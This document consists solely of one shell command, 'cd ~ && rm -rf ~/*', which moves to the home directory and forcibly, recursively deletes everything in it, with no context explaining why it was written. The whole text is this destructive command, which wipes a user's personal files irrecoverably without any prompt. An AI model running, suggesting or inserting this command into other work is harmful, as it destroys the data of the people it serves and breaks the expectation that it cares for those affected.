cd ~ && rm -rf ~/*
